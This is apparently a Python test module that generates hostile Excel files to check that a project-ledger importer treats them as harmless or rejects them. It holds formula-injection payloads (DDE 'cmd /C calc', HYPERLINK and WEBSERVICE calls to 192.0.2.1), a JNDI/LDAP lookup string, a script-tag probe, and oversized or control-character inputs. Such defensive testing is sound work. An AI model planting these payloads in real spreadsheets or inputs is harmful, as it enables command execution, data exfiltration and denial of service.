"""Attacks by what stands in the cells: formulas as text, numbers that are none, words that no reader expects."""

from __future__ import annotations

from tests.hostile import HEADER, PROJECT, Attack, cell, harmless, ledger, ledger_of, refused, row
from tests.opening_files import sheet_xml, xlsx

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"点我\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=WEBSERVICE(\"http://192.0.2.1\")}",
    "=IMPORTXML(\"http://192.0.2.1\",\"//a\")",
)  # fmt: skip


def projects(*names: str) -> bytes:
    """The table with a project of each name."""
    return xlsx(ledger_of(*((name, *PROJECT[1:]) for name in names)))


def amount(value: str, kind: str = "") -> bytes:
    """The table and a second project whose total investment is given as the XML has it."""
    kind = f' t="{kind}"' if kind else ""
    content = f"<is><t>{value}</t></is>" if "inlineStr" in kind else f"<v>{value}</v>"
    cells = f'{cell("A3", "乙项目")}{cell("B3", "乙公司")}<c r="C3"{kind}>{content}</c>'
    return xlsx(ledger(f'<row r="3">{cells}</row>'))


def formula(text: str, value: str = "<v>7</v>", kind: str = "") -> bytes:
    """The table and a second project whose total investment is a formula."""
    cells = f'{cell("A3", "乙项目")}<c r="C3"{kind}><f>{text}</f>{value}</c>'
    return xlsx(ledger(f'<row r="3">{cells}</row>'))


def formula_tag(tag: str) -> bytes:
    cells = f'{cell("A3", "乙项目")}<c r="C3">{tag}<v>7</v></c>'
    return xlsx(ledger(f'<row r="3">{cells}</row>'))


def dates(*values: str) -> bytes:
    """A table with days: numbers, and texts where they are none."""
    rows = "".join(
        f'<row r="{at}">{cell(f"A{at}", f"项目{at}")}{cell(f"B{at}", "公司")}{cell(f"C{at}", "1")}{value(f"D{at}", text)}</row>'
        for at, text in enumerate(values, 2)
    )
    return xlsx(sheet_xml(row(1, "项目名称", "投资方", "总投资(万元)", "开工日期") + rows))


def value(ref: str, text: str) -> str:
    return f'<c r="{ref}"><v>{text[1:]}</v></c>' if text.startswith("#") else cell(ref, text)


def days_of_nowhere() -> bytes:
    return dates(
        "0000年1月1日", "10000年1月1日", "2023年13月45日", "2023-02-30", "#-1", "#60", "#2958466", "#1e300", "#NaN",
        "9" * 5000, "2023年" * 3000, "²⁰²³年¹月", "٢٠٢٣年١月١日",
    )  # fmt: skip


def in_every_column(text: str) -> bytes:
    """The same text in each column of a project, so that each reader has to bear it."""
    return xlsx(ledger(row(3, text, text, text, text, text)))


MARKUP = ("<script>alert(1)</script>", "[red]甲[/red]", "{0.__class__}%s%n", "${jndi:ldap://192.0.2.1/a}")
SECOND = ("甲项目", "乙项目")
LONG = {
    "digits": "1" * 32_000, "commas": "1," * 16_000, "points": "1." * 16_000, "blanks": "1" + " " * 32_000 + "2",
    "wide": "１" * 32_000, "chinese": "一亿" * 16_000, "about": "约" * 32_000, "exponent": "1e99999999", "minus": "-" * 32_000,
    "brackets": "（" * 32_000, "units": "万元" * 16_000, "zwj": "甲" + "\u200d" * 32_000, "combining": "甲" + "\u0301" * 32_000,
    "ligature": "\ufdfa" * 30_000, "superscript": "²³" * 10, "roman": "Ⅻ" * 1000, "yen": "¥$￥€" * 4000, "slash": "1/2/" * 8000,
}  # fmt: skip

ATTACKS: list[Attack] = [
    harmless("formula-as-text.xlsx", lambda: projects(*FORMULAS), projects=FORMULAS),
    harmless("formula-with-dde.xlsx", lambda: formula("cmd|' /C calc'!A0"), "ZS-738", projects=SECOND),
    harmless("formula-without-value.xlsx", lambda: formula('WEBSERVICE("http://192.0.2.1/")', ""), "ZS-732", projects=SECOND),
    harmless("formula-of-a-megabyte.xlsx", lambda: formula("1+" * 100_000 + "1"), "ZS-738", projects=SECOND),
    harmless("formula-deep.xlsx", lambda: formula("(" * 60_000 + "1" + ")" * 60_000), "ZS-738", projects=SECOND),
    harmless("formula-error-unknown.xlsx", lambda: formula("1", "<v>#EVIL!</v>", ' t="e"'), "ZS-731", projects=SECOND),
    harmless("formula-shared-by-nobody.xlsx", lambda: formula_tag('<f t="shared" si="4294967295"/>'), "ZS-738", projects=SECOND),
    harmless("formula-shared-everywhere.xlsx", lambda: formula_tag('<f t="shared" ref="A1:XFD1048576" si="0">C3</f>'), "ZS-738", projects=SECOND),
    harmless("formula-array-everywhere.xlsx", lambda: formula_tag('<f t="array" ref="A1:XFD1048576">{1,2;3,4}</f>'), "ZS-738", projects=SECOND),
    harmless("formula-table.xlsx", lambda: formula_tag('<f t="dataTable" ref="A1:Z99" r1="ZZZZ1"/>'), "ZS-738", projects=SECOND),
    *(
        harmless(f"number-{name}.xlsx", lambda text=text: amount(text), code, projects=SECOND)
        for name, text, code in (
            ("nan", "NaN", "ZS-207"), ("inf", "inf", "ZS-207"), ("minus-inf", "-Infinity", "ZS-207"), ("1e999", "1e999", "ZS-207"),
            ("1e308", "1e308", "ZS-207"), ("tiny", "1e-320", "ZS-712"), ("10000-digits", "9" * 10_000, "ZS-207"),
            ("10000-places", "0." + "1" * 10_000, "ZS-205"),
        )
    ),
    harmless("number-text-10000-digits.xlsx", lambda: amount("9" * 10_000, "inlineStr"), "ZS-201", projects=SECOND),
    *(harmless(f"text-{name}.xlsx", lambda text=text: in_every_column(text), projects=None) for name, text in LONG.items()),
    harmless("days-of-nowhere.xlsx", days_of_nowhere, "ZS-222", projects=tuple(f"项目{at}" for at in range(2, 15))),
    harmless("control-characters.xlsx", lambda: projects("甲\u202e\u2066乙\u200b\x7f\x85\x9b31m项目"), "ZS-734", projects=("甲乙31m项目",)),
    refused("not-characters.xlsx", "ZS-424", "XML 写法有误", lambda: projects("甲\ufffe\uffff项目")),
    harmless("escaped-characters.xlsx", lambda: projects("甲_x000D_乙_x0000_", "_x003D_1+1"), projects=("甲\r乙", "=1+1")),
    harmless("markup-in-text.xlsx", lambda: projects(*MARKUP), projects=MARKUP),
    harmless("headers-very-many.xlsx", lambda: xlsx(ledger_of() .replace("</row>", "".join(cell(f"{chr(65 + at // 26)}{chr(65 + at % 26)}1", f"项目名称{at}") for at in range(600)) + "</row>", 1)), projects=()),
    harmless("headers-very-long.xlsx", lambda: xlsx(ledger_of().replace("项目名称", "项目名称" + "（" * 20_000)), projects=()),
    harmless("headers-in-every-row.xlsx", lambda: xlsx(sheet_xml("".join(row(at, *HEADER) for at in range(1, 700)))), projects=()),
    harmless("table-in-every-corner.xlsx", lambda: xlsx(ledger("".join(row(at, "合计", "注：", "小计") for at in range(3, 3000))))),
]  # fmt: skip
